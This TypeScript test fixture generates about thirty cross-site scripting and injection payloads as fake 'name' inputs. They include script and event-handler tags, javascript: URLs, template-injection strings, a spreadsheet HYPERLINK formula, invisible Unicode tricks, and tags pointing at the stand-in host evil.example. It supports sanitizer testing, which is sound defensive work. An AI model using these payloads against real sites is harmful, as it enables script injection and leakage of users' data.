/** What a stranger may write where a name is expected; `n` tells the attacks apart. */
const ATTACKS: readonly ((n: number) => string)[] = [
  (n) => `<img src=/x-${n} onerror=alert(${n})>`,
  (n) => `<script>alert(${n})</script>`,
  (n) => `"><svg onload=alert(${n})>`,
  (n) => `<iframe srcdoc="<script>alert(${n})</script>">`,
  (n) => `javascript:alert(${n})`,
  (n) => `<a href="javascript:alert(${n})">open</a>`,
  (n) => `data:text/html,<script>alert(${n})</script>`,
  (n) => `<svg><use href="https://evil.example/x-${n}.svg#a"/></svg>`,
  (n) => `<style>@import url(https://evil.example/x-${n}.css)</style>`,
  (n) => `x{background:url(https://evil.example/x-${n})}`,
  (n) => `\u202egnp.${n}\u202c`,
  (n) => `a\u200bb\u2066${n}\u2069\ufeff`,
  (n) => `{{constructor.constructor("alert(${n})")()}}`,
  (n) => '${alert(' + String(n) + ')}',
  (n) => `{@html "<img src=/x-${n}>"}`,
  (n) => `<math><mtext><table><mglyph><style><img src=/x-${n} onerror=alert(${n})>`,
  (n) => `<link rel=stylesheet href=//evil.example/x-${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.example/x-${n}">`,
  (n) => `<form action=//evil.example/x-${n}><input autofocus onfocus=alert(${n})>`,
  (n) => `<object data=//evil.example/x-${n}></object>`,
  (n) => `<embed src=//evil.example/x-${n}>`,
  (n) => `<base href=//evil.example/x-${n}/>`,
  (n) => `%3Cscript%3Ealert(${n})%3C/script%3E`,
  (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;`,
  (n) => `=HYPERLINK("//evil.example/x-${n}")`,
  (n) => `<video><source onerror=alert(${n})></video>`,
  (n) => `<details open ontoggle=alert(${n})>`,
  (n) => `--></title></textarea></style><img src=/x-${n} onerror=alert(${n})>`,
  (n) => `<template><img src=/x-${n}></template>`,
  (n) => `\u00a0\u3000<b>${n}</b>\u2028\u2029`,
];

/** So many different attacks, as many of each kind. */
export const attacks = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, n) => (ATTACKS[n % ATTACKS.length] ?? String)(n));

/** The attack as a text between single quotes of a script. */
export const quoted = (attack: string): string => attack.replaceAll(/['\\\n\r\u2028\u2029]/g, '');

/** Characters that turn text around or are not seen. */
export const UNSEEN = /[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;
